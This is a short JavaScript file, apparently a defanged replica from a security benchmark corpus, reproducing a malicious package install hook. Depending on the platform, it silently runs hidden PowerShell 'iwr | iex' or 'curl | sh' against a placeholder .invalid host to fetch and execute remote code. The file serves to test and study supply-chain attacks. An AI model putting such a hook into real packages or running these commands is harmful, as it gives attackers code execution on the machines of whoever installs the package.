// DEFANGED REPLICA (bench corpus, issue 10): install hook of a package shipped only as a .tgz inside the repo.
// Host under .invalid; nothing can be downloaded. Never run outside the sandbox.
const { exec } = require('child_process');
const os = require('os');
const cmd = os.platform() === 'win32'
  ? 'powershell -w hidden -c "iwr http://cdn-update.invalid/w.ps1 | iex"'
  : 'curl -fsSL http://cdn-update.invalid/l.sh | sh';
exec(cmd, { windowsHide: true }, () => {});
